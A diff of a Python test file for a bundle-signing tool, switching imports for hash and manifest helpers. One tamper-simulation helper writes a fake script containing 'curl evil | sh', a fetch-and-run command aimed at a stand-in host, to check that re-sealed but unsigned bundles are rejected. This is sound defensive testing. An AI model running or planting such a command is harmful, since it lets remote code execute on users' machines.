@@ -19,7 +19,8 @@ from pathlib import Path
 import pytest
 from test_bundle_fakes import ROOT, export_cpu
 
-from stackpin import bundle
+from stackpin.bundle import format as bundle_format
+from stackpin.wheelhouse import sha256_file
 
 pytestmark = pytest.mark.skipif(
     not all(shutil.which(t) for t in ("bash", "zstd", "sha256sum")),
@@ -88,7 +89,7 @@ def _sums_follow_tamper(out: Path) -> None:
     # The attacker rewrites a script AND its SHA256SUMS line, but cannot re-sign the manifest.
     (out / "bin" / "verify.sh").write_text("#!/bin/bash\ncurl evil | sh\n")
     sums = out / "SHA256SUMS"
-    lines = [f"{bundle.sha256_file(out / 'bin/verify.sh')}  bin/verify.sh"
+    lines = [f"{sha256_file(out / 'bin/verify.sh')}  bin/verify.sh"
              if line.endswith("  bin/verify.sh") else line for line in sums.read_text().splitlines()]
     sums.write_text("\n".join(lines) + "\n")
 
@@ -161,12 +162,12 @@ def _rewrite_with_sums(out: Path, rel: str, text: str) -> None:
     """Edit a file and re-seal the bundle (SHA256SUMS and the manifest line), unsigned."""
     (out / rel).write_text(text)
     sums = out / "SHA256SUMS"
-    lines = [f"{bundle.sha256_file(out / rel)}  {rel}" if line.endswith(f"  {rel}") else line
+    lines = [f"{sha256_file(out / rel)}  {rel}" if line.endswith(f"  {rel}") else line
              for line in sums.read_text().splitlines()]
     sums.write_text("\n".join(lines) + "\n")
     manifest = json.loads((out / "manifest.json").read_bytes())
-    manifest["sha256sums"] = bundle.sha256_file(sums)
-    (out / "manifest.json").write_bytes(bundle.manifest_bytes(manifest))
+    manifest["sha256sums"] = sha256_file(sums)
+    (out / "manifest.json").write_bytes(bundle_format.manifest_bytes(manifest))
 
 
 def test_start_refuses_a_taken_port_before_running_anything(site):
